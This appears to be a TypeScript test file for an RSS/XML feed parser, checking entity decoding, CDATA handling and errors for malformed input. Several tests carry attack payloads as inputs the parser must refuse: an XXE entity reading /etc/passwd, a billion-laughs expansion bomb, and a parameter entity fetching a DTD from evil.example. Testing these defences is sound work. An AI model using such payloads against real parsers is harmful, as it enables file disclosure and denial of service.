import { parseWire, WireError } from '@lib/wire-formats';
import { decodeEntities } from './entities';
import { LATIN1_ENTITY_COUNT } from './entities';

const rss = (item: string, prolog = '') =>
  Buffer.from(
    `<?xml version="1.0"?>${prolog}<rss version="2.0"><channel><title>T</title>${item}</channel></rss>`,
  );
const item = (inner: string) =>
  `<item><guid>urn:x:1</guid><pubDate>Mon, 01 Jan 2024 00:00:00 GMT</pubDate>${inner}</item>`;

function errorOf(run: () => unknown): WireError {
  try {
    run();
  } catch (error) {
    if (error instanceof WireError) return error;
    throw error;
  }
  throw new Error('expected a WireError');
}

describe('XML reading', () => {
  it('decodes predefined, numeric and HTML named entities, and keeps CDATA verbatim', () => {
    const [story] = parseWire(
      rss(
        item(
          '<title>Tom &amp; Jerry &#8211; caf&eacute; &#x1F4F0; &lt;b&gt; &unknown;</title><description><![CDATA[<p>Fish &amp; chips &lt;3</p>]]></description>',
        ),
      ),
    ).stories;
    expect(story.headline).toBe('Tom & Jerry – café 📰 &unknown;');
    // CDATA is markup for the body: its &amp; is an HTML entity, decoded once.
    expect(story.body_text).toBe('Fish & chips <3');
    expect(story.body_html).toBe('<p>Fish &amp; chips &lt;3</p>');
  });

  it('turns invalid numeric references into U+FFFD instead of failing', () => {
    expect(decodeEntities('a&#0;b&#xD800;c&#1114112;d')).toBe('a\ufffdb\ufffdc\ufffdd');
  });

  it('knows all 96 HTML Latin-1 entity names', () => {
    expect(LATIN1_ENTITY_COUNT).toBe(96);
    expect(decodeEntities('&nbsp;&yuml;&THORN;&times;')).toBe('\u00a0ÿÞ×');
  });

  it('refuses an external entity (XXE)', () => {
    const error = errorOf(() =>
      parseWire(
        rss(
          item('<title>&xxe;</title>'),
          '\n<!DOCTYPE rss [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>',
        ),
      ),
    );
    expect(error.code).toBe('WIRE.XML_ENTITY_REFUSED');
    expect(error.format).toBe('rss');
    expect(error.line).toBe(3);
  });

  it('refuses an entity-expansion bomb (billion laughs) without expanding it', () => {
    const levels = Array.from({ length: 10 }, (_, i) =>
      i === 0 ? '<!ENTITY lol0 "lol">' : `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`,
    ).join('\n');
    const started = Date.now();
    const error = errorOf(() =>
      parseWire(rss(item('<title>&lol9;</title>'), `<!DOCTYPE rss [${levels}]>`)),
    );
    expect(error.code).toBe('WIRE.XML_ENTITY_REFUSED');
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it('refuses parameter entities too', () => {
    const error = errorOf(() =>
      parseWire(
        rss(
          item('<title>x</title>'),
          '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        ),
      ),
    );
    expect(error.code).toBe('WIRE.XML_ENTITY_REFUSED');
  });

  it('accepts a DOCTYPE that only names a public DTD (never fetched)', () => {
    const [story] = parseWire(
      rss(
        item('<title>ok</title>'),
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
      ),
    ).stories;
    expect(story.headline).toBe('ok');
  });

  it('reports malformed XML with its line', () => {
    const error = errorOf(() =>
      parseWire(Buffer.from('<rss version="2.0">\n<channel>\n<title>T</titel>\n</channel></rss>')),
    );
    expect(error).toMatchObject({ code: 'WIRE.MALFORMED_XML', format: 'rss', line: 3 });
    expect(error.message).toMatch(/^rss, line 3: /);
  });

  it('reports a document cut short as truncated', () => {
    const whole = rss(item('<title>x</title>')).toString();
    const error = errorOf(() => parseWire(Buffer.from(whole.slice(0, whole.indexOf('</item>')))));
    expect(error).toMatchObject({ code: 'WIRE.TRUNCATED', format: 'rss' });
    expect(error.message).toMatch(/still open: rss, channel, item$/);
  });

  it('refuses two root elements', () => {
    expect(errorOf(() => parseWire(Buffer.from('<nitf></nitf><nitf></nitf>'))).code).toBe(
      'WIRE.MALFORMED_XML',
    );
  });

  it('refuses nesting deeper than the parser allows, as malformed XML', () => {
    const deep = `<nitf><body><body.content>${'<b>'.repeat(400)}x${'</b>'.repeat(400)}</body.content></body></nitf>`;
    expect(errorOf(() => parseWire(Buffer.from(deep))).code).toBe('WIRE.MALFORMED_XML');
  });
});
